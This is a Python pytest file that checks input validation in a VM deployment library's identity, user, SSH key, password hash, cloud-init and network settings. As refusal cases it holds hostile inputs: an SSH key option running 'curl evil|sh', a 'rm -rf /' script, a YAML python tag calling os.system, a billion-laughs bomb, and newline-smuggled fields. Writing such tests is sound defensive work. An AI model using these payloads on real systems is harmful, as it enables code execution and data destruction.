"""Identity and User: every field checked at the edge, InvalidSpec naming the field."""

from __future__ import annotations

import base64
import ipaddress
import time

import pytest
from deployment_support import key_blob, make_key, ssh_string

import anyvirt
from anyvirt.deployment import Dhcp, Identity, Static, User, for_clones
from anyvirt.deployment.cloudconfig import parse_user_data
from anyvirt.deployment.documents import cloud_config
from anyvirt.deployment.hostnames import check_hostname, hostname_from_name
from anyvirt.deployment.sshkeys import parse_ssh_key
from anyvirt.errors import InvalidSpec

KEY = make_key()


#: real crypt(3) hashes of "pw", made once by Debian's libxcrypt (Python 3.11's crypt module)
HASHES = {
    "sha512": "$6$DuM2dErhbRcRo9fz$ktJUM6f.5fTIXP6YBtkNSXZT7qMAgXbmqCMTTKtO4uORubvipLJG8WmddXsjQA1"
              "zkazySiprtlWH2aO.1zGIm/",
    "sha256": "$5$W.jANuV5ViAlG4yu$et2UyBIL/o7Ut8QV3Sa3auOVegnbtntKltsQVivGg41",
    "yescrypt": "$y$j9T$abcdefghijklmnop$wRwvHNqzMkHLG74uLLCRVTwaZ.a1aIothEUeYGf9oED",
    "bcrypt": "$2b$12$IZy6rC/wYhqU6v2wegR3Beg0i90A/FmusCxRiWFW.X40aBn0qEK0m",
    "md5": "$1$qxO0qgNr$SXacBPCuAvYu89SF3/d0H1",
    "des": "abzlUXK5ed5rs",
}


def refused(field: str, make: object) -> InvalidSpec:
    with pytest.raises(InvalidSpec) as caught:
        make()  # type: ignore[operator]
    assert caught.value.field == field, (caught.value.field, str(caught.value))
    return caught.value


def test_exported_from_anyvirt() -> None:
    assert anyvirt.Identity is Identity
    assert anyvirt.User is User
    ident = anyvirt.Identity(users=[anyvirt.User("ops", ssh_keys=[KEY], sudo=True)], hostname=None,
                             user_data=None)
    assert ident.users[0].ssh_keys == (KEY,)


# ---------------------------------------------------------------- host names

@pytest.mark.parametrize("name", ["web1", "WEB-1", "a", "web1.example.com", "x" * 63,
                                  ".".join(["a" * 63] * 3) + "." + "b" * 61, "1web", "a.b-c.d2"])
def test_hostnames_by_rfc_1123(name: str) -> None:
    assert check_hostname(name) == name
    assert Identity(hostname=name).hostname == name


@pytest.mark.parametrize("name", [
    "", "-web", "web-", "web_1", "web..x", ".web", "web.", "x" * 64,
    ".".join(["a" * 63] * 4), "10.0.0.1", "123", "host.123", "wéb", "web 1", "web\n1",
    "web1\n#cloud-config\nusers: []", "web1: evil", "*", "web1\x00", "web1\u2028x",
])
def test_bad_hostnames_refused(name: str) -> None:
    refused("hostname", lambda: Identity(hostname=name))


@pytest.mark.parametrize(("vm_name", "hostname"), [
    ("web1", "web1"), ("Web_1", "web-1"), ("db 2.prod", "db-2-prod"), ("A-b", "a-b")])
def test_vm_names_become_host_names(vm_name: str, hostname: str) -> None:
    assert hostname_from_name(vm_name) == hostname
    assert Identity().resolve(vm_name, "iid-1").hostname == hostname


@pytest.mark.parametrize("vm_name", ["web/1", "wëb", "ウェブ", "-web", "web_", "web\n1", "123",
                                     "x" * 64, "a:b", "web1;reboot"])
def test_vm_names_that_cannot_be_host_names_refused(vm_name: str) -> None:
    refused("hostname", lambda: Identity().resolve(vm_name, "iid-1"))


# ---------------------------------------------------------------- users


@pytest.mark.parametrize("name", ["ops", "_svc", "a", "deploy-bot", "u_2", "x" * 32])
def test_user_names(name: str) -> None:
    assert User(name).name == name


@pytest.mark.parametrize("name", ["", "Ops", "1ops", "-ops", "ops\n", "ops: x", "o ps", "x" * 33,
                                  "ops$", "default", "ops\nsudo: ALL", "ö"])
def test_bad_user_names_refused(name: str) -> None:
    refused("user name", lambda: User(name))


def test_two_users_of_one_name_refused() -> None:
    refused("users", lambda: Identity(users=[User("ops"), User("ops", sudo=True)]))
    refused("users", lambda: Identity(users=["ops"]))  # type: ignore[list-item]
    refused("users", lambda: Identity(users="ops"))  # type: ignore[arg-type]
    refused("sudo", lambda: User("ops", sudo="yes"))  # type: ignore[arg-type]


# ---------------------------------------------------------------- SSH keys


@pytest.mark.parametrize("key_type", ["ssh-ed25519", "ssh-rsa", "ecdsa-sha2-nistp256",
                                      "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521"])
def test_ssh_keys_parsed(key_type: str) -> None:
    key = make_key(key_type)
    assert User("ops", ssh_keys=[key]).ssh_keys == (key,)
    assert parse_ssh_key("  " + key.replace(" ", "\t", 1) + "\n") == key  # a .pub file's line
    no_comment = make_key(key_type, comment="")
    assert parse_ssh_key(no_comment) == no_comment


def test_real_keys_from_ssh_keygen(tmp_path: pytest.TempPathFactory) -> None:
    import subprocess
    for key_type in ("ed25519", "rsa", "ecdsa"):
        path = f"{tmp_path}/{key_type}"
        subprocess.run(["ssh-keygen", "-q", "-t", key_type, "-N", "", "-C", "me@host", "-f", path],
                       check=True)
        with open(path + ".pub") as pub:
            text = pub.read()
        assert parse_ssh_key(text) == text.strip()


ED = key_blob("ssh-ed25519")
BAD_KEYS = {
    "type mismatch": "ssh-ed25519 " + base64.b64encode(key_blob("ssh-rsa")).decode(),
    "rsa labelled ecdsa": "ecdsa-sha2-nistp256 " + base64.b64encode(key_blob("ssh-rsa")).decode(),
    "wrong curve": "ecdsa-sha2-nistp256 " + base64.b64encode(
        ssh_string(b"ecdsa-sha2-nistp256") + ssh_string(b"nistp384")
        + ssh_string(b"\x04" + b"1" * 64)).decode(),
    "trailing bytes": "ssh-ed25519 " + base64.b64encode(ED + b"x").decode(),
    "truncated": "ssh-ed25519 " + base64.b64encode(ED[:-5]).decode(),
    "short ed25519": "ssh-ed25519 " + base64.b64encode(
        ssh_string(b"ssh-ed25519") + ssh_string(b"1" * 31)).decode(),
    "small rsa": "ssh-rsa " + base64.b64encode(
        ssh_string(b"ssh-rsa") + ssh_string(b"\x01\x00\x01") + ssh_string(b"\x00" + b"\xff" * 64)).decode(),
    "not base64": "ssh-ed25519 AAAA!!!!",
    "bad padding": "ssh-ed25519 " + base64.b64encode(ED).decode().rstrip("=") + "=",
    "dss": "ssh-dss " + base64.b64encode(ssh_string(b"ssh-dss") + b"x" * 40).decode(),
    "options": 'command="curl evil|sh" ' + KEY,
    "from option": 'from="*" ' + KEY,
    "two keys": KEY + "\n" + make_key("ssh-rsa"),
    "newline in comment": KEY + "\nhostname: evil",
    "line separator": KEY + "\u2028x",
    "next line": KEY + "\x85x",
    "carriage return": KEY + "\rssh-rsa AAAA",
    "type only": "ssh-ed25519",
    "empty": "",
    "huge": "ssh-rsa " + "A" * 9000,
}


@pytest.mark.parametrize("case", sorted(BAD_KEYS))
def test_bad_ssh_keys_refused(case: str) -> None:
    refused("SSH key", lambda: User("ops", ssh_keys=[BAD_KEYS[case]]))


def test_ssh_keys_must_be_a_list_of_strings() -> None:
    refused("ssh_keys", lambda: User("ops", ssh_keys=KEY))  # type: ignore[arg-type]
    refused("SSH key", lambda: User("ops", ssh_keys=[KEY.encode()]))  # type: ignore[list-item]


def test_key_comment_with_yaml_syntax_is_carried_as_data() -> None:
    key = make_key(comment="x: y #cloud-config &a *a [1] {k: v} 'q' \"d\" |")
    spec = Identity(users=[User("ops", ssh_keys=[key])])
    assert cloud_config(spec.resolve("web1", "iid-1"))["users"][0]["ssh_authorized_keys"] == [key]


# ---------------------------------------------------------------- password hash


@pytest.mark.parametrize("kind", ["sha512", "sha256", "yescrypt", "bcrypt"])
def test_crypt_hashes_accepted(kind: str) -> None:
    user = User("ops", password_hash=HASHES[kind])
    assert user.password_hash is not None and user.password_hash.reveal() == HASHES[kind]
    assert HASHES[kind] not in repr(user.password_hash), "kept as a Secret"
    assert HASHES[kind] not in repr(user)
    assert HASHES[kind] not in repr(Identity(users=[user]))


@pytest.mark.parametrize("kind", ["md5", "des", "plain", "empty", "locked", "newline"])
def test_weak_or_plain_passwords_refused_without_quoting(kind: str) -> None:
    own = {"plain": "correct horse battery staple", "empty": "", "locked": "!",
           "newline": HASHES["sha512"] + "\nsudo: ALL"}
    value = own[kind] if kind in own else HASHES[kind]
    error = refused("password_hash", lambda: User("ops", password_hash=value))
    assert not value or value not in str(error)
    assert "horse" not in str(error)


# ---------------------------------------------------------------- user_data

BILLION_LAUGHS = "#cloud-config\n" + "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8))
DEEP = "#cloud-config\nk: " + "[" * 200 + "]" * 200 + "\n"

BAD_USER_DATA = {
    "no header": "packages: [nginx]\n",
    "script": "#!/bin/sh\nrm -rf /\n",
    "include": "#include\nhttp://example.com/x\n",
    "jinja": "## template: jinja\n#cloud-config\nhostname: {{ v1.local_hostname }}\n",
    "mime": "Content-Type: multipart/mixed; boundary=x\n\n--x\n",
    "bom": "\ufeff#cloud-config\n",
    "header not first": "\n#cloud-config\n",
    "header suffix": "#cloud-configX\n",
    "list": "#cloud-config\n- a\n- b\n",
    "scalar": "#cloud-config\njust text\n",
    "non-string key": "#cloud-config\n1: x\n",
    "reserved hostname": "#cloud-config\nhostname: evil\n",
    "reserved fqdn": "#cloud-config\nfqdn: evil.example.com\n",
    "reserved preserve": "#cloud-config\npreserve_hostname: true\n",
    "users not a list": "#cloud-config\nusers: ops\n",
    "billion laughs": BILLION_LAUGHS,
    "anchor": "#cloud-config\na: &x 1\n",
    "merge key": "#cloud-config\nbase: &b {x: 1}\nother:\n  <<: *b\n",
    "deep": DEEP,
    "two documents": "#cloud-config\na: 1\n---\nhostname: evil\n",
    "python tag": "#cloud-config\nx: !!python/object/apply:os.system ['true']\n",
    "local tag": "#cloud-config\nx: !evil 1\n",
    "bad yaml": "#cloud-config\na: [1\n",
    "duplicate-looking injection": "#cloud-config\nruncmd: []\n#cloud-config\nhostname: evil\n",
    "too big": "#cloud-config\nx: '" + "a" * (1 << 20) + "'\n",
    "surrogate": "#cloud-config\nx: '\ud800'\n",
    "surrogate escapes": '#cloud-config\nx: "\\ud83d\\ude00"\n',
    "surrogate escape in a key": '#cloud-config\nx: {"\\udc00": 1}\n',
}


@pytest.mark.parametrize("case", sorted(BAD_USER_DATA))
def test_bad_user_data_refused(case: str) -> None:
    started = time.monotonic()
    refused("user_data", lambda: Identity(user_data=BAD_USER_DATA[case]))
    assert time.monotonic() - started < 5  # refused from the text, never by expanding it


def test_user_data_must_be_text() -> None:
    refused("user_data", lambda: Identity(user_data=b"#cloud-config\n"))  # type: ignore[arg-type]


def test_user_data_values_that_look_like_structure_are_data() -> None:
    text = ("#cloud-config\n"
            "write_files:\n"
            "- path: /etc/motd\n"
            "  content: \"hello\\n#cloud-config\\nhostname: evil\\nusers: [{name: root}]\\n\"\n"
            "runcmd: ['echo \"&a *a\" > /tmp/x']\n")
    spec = Identity(user_data=text)
    merged = cloud_config(spec.resolve("web1", "iid-1"))
    assert merged["hostname"] == "web1"
    content = "hello\n#cloud-config\nhostname: evil\nusers: [{name: root}]\n"
    assert merged["write_files"][0]["content"] == content
    assert merged["runcmd"] == ['echo "&a *a" > /tmp/x']


def test_empty_cloud_config_is_an_empty_mapping() -> None:
    assert parse_user_data("#cloud-config\n") == {}
    assert parse_user_data("#cloud-config   \r\n# only a comment\n") == {}


# ---------------------------------------------------------------- the merge rule


def test_merge_rule_users_concatenated_other_keys_kept() -> None:
    text = "#cloud-config\nusers: [default, {name: extra, shell: /bin/zsh}]\npackages: [nginx]\n"
    spec = Identity(users=[User("ops", ssh_keys=[KEY], sudo=True)], user_data=text,
                    hostname="web1.example.com")
    merged = cloud_config(spec.resolve("web1", "iid-1"))
    assert list(merged) == ["hostname", "fqdn", "users", "packages"]
    assert merged["hostname"] == "web1" and merged["fqdn"] == "web1.example.com"
    assert [u if isinstance(u, str) else u["name"] for u in merged["users"]] == ["default", "extra", "ops"]
    assert merged["users"][2] == {"name": "ops", "ssh_authorized_keys": [KEY],
                                  "sudo": "ALL=(ALL) NOPASSWD:ALL", "lock_passwd": True}
    assert merged["packages"] == ["nginx"]


def test_merge_rule_refuses_a_user_in_both() -> None:
    spec = Identity(users=[User("ops")], user_data="#cloud-config\nusers: [{name: ops, sudo: false}]\n")
    refused("user_data", lambda: cloud_config(spec.resolve("web1", "iid-1")))


def test_no_users_no_users_key() -> None:
    assert "users" not in cloud_config(Identity().resolve("web1", "iid-1"))


# ---------------------------------------------------------------- network


def test_static_addresses_typed() -> None:
    nic = Static(["192.0.2.10/24", "2001:db8::5/64"], gateway="192.0.2.1", gateway6="2001:db8::1",
                 nameservers=["192.0.2.53", "2001:db8::53"], search=["example.com"])
    assert nic.addresses == (ipaddress.ip_interface("192.0.2.10/24"),
                             ipaddress.ip_interface("2001:db8::5/64"))
    assert nic.gateway == ipaddress.IPv4Address("192.0.2.1")
    assert nic.nameservers[1] == ipaddress.IPv6Address("2001:db8::53")
    assert Identity(network=[Dhcp(), nic]).network == (Dhcp(), nic)


@pytest.mark.parametrize(("field", "make"), [
    ("addresses", lambda: Static([])),
    ("addresses", lambda: Static(["192.0.2.10"])),
    ("addresses", lambda: Static(["192.0.2.0/24"])),
    ("addresses", lambda: Static(["192.0.2.255/24"])),
    ("addresses", lambda: Static(["127.0.0.2/8"])),
    ("addresses", lambda: Static(["224.0.0.5/24"])),
    ("addresses", lambda: Static(["169.254.1.1/16"])),
    ("addresses", lambda: Static(["192.0.2.10/33"])),
    ("addresses", lambda: Static(["192.0.2.10/24\nhostname: x"])),
    ("addresses", lambda: Static(["192.0.2.10/24", "192.0.2.10/25"])),
    ("addresses", lambda: Static("192.0.2.10/24")),
    ("gateway", lambda: Static(["192.0.2.10/24"], gateway="198.51.100.1")),
    ("gateway", lambda: Static(["192.0.2.10/24"], gateway="2001:db8::1")),
    ("gateway", lambda: Static(["192.0.2.10/24"], gateway="gw")),
    ("gateway6", lambda: Static(["192.0.2.10/24"], gateway6="2001:db8::1")),
    ("nameservers", lambda: Static(["192.0.2.10/24"], nameservers=["dns.example.com"])),
    ("nameservers", lambda: Static(["192.0.2.10/24"], nameservers=["192.0.2.1"] * 4)),
    ("hostname", lambda: Static(["192.0.2.10/24"], search=["bad_domain"])),
    ("search", lambda: Static(["192.0.2.10/24"], search=[f"d{i}.example" for i in range(7)])),
    ("network", lambda: Identity(network=["dhcp"])),
])
def test_bad_network_refused(field: str, make: object) -> None:
    refused(field, make)


# ---------------------------------------------------------------- instance ids and clones


@pytest.mark.parametrize("bad", ["", "-x", "a b", "a/b", "x" * 129, "iid\n", "é"])
def test_instance_id_checked(bad: str) -> None:
    refused("instance_id", lambda: Identity(instance_id=bad))
    refused("instance_id", lambda: Identity().resolve("web1", bad))


def test_resolve_gives_a_new_instance_id_unless_one_is_set() -> None:
    spec = Identity()
    first, second = spec.resolve("web1"), spec.resolve("web1")
    assert first.instance_id != second.instance_id
    assert Identity(instance_id="iid-fixed").resolve("web1").instance_id == "iid-fixed"
    assert Identity(instance_id="iid-fixed").resolve("web1", "iid-other").instance_id == "iid-other"


def test_each_clone_its_own_host_name_and_instance_id() -> None:
    names = [f"web-{i}" for i in range(1, 21)]
    clones = for_clones(Identity(users=[User("ops", ssh_keys=[KEY], sudo=True)]), names)
    assert [c.hostname for c in clones] == names
    assert len({c.instance_id for c in clones}) == 20
    assert {c.identity.users for c in clones} == {(User("ops", ssh_keys=[KEY], sudo=True),)}


def test_instance_ids_given_per_clone_are_used_and_unique() -> None:
    clones = for_clones(Identity(), ["web-1", "web-2"], instance_ids=["iid-a", "iid-b"])
    assert [c.instance_id for c in clones] == ["iid-a", "iid-b"]
    refused("instance_id", lambda: for_clones(Identity(), ["web-1", "web-2"], instance_ids=["i", "i"]))
    refused("instance_id", lambda: for_clones(Identity(), ["web-1"], instance_ids=["bad id"]))


def test_one_clone_may_have_fixed_values() -> None:
    (one,) = for_clones(Identity(hostname="db.example.com", instance_id="iid-db",
                                 network=[Static(["192.0.2.10/24"])]), ["db"])
    assert (one.hostname, one.instance_id) == ("db.example.com", "iid-db")


@pytest.mark.parametrize("spec", [Identity(hostname="web"), Identity(instance_id="iid-1"),
                                  Identity(network=[Static(["192.0.2.10/24"])])])
def test_clones_never_share_what_must_be_unique(spec: Identity) -> None:
    refused("identity", lambda: for_clones(spec, ["web-1", "web-2"]))


@pytest.mark.parametrize("names", [["web_1", "web-1"], ["Web1", "web1"], ["a.b", "a-b"]])
def test_clone_names_that_collide_as_host_names_refused(names: list[str]) -> None:
    refused("hostname", lambda: for_clones(Identity(), names))


def test_clone_name_that_cannot_be_a_host_name_refused() -> None:
    refused("hostname", lambda: for_clones(Identity(), ["web-1", "wéb-2"]))


@pytest.mark.parametrize("value", ["\x85", "a\x85b", "\u2028", "é\x85", "\ufeff"])
def test_line_breaking_characters_survive_the_yaml_round_trip(value: str) -> None:
    import json

    import yaml

    from anyvirt.deployment.documents import user_data

    spec = Identity(user_data=f"#cloud-config\nwrite_files:\n- path: /x\n  content: {json.dumps(value)}\n")
    text = user_data(spec.resolve("web1", "iid-1"))
    assert text.isascii()
    assert yaml.safe_load(text)["write_files"][0]["content"] == value
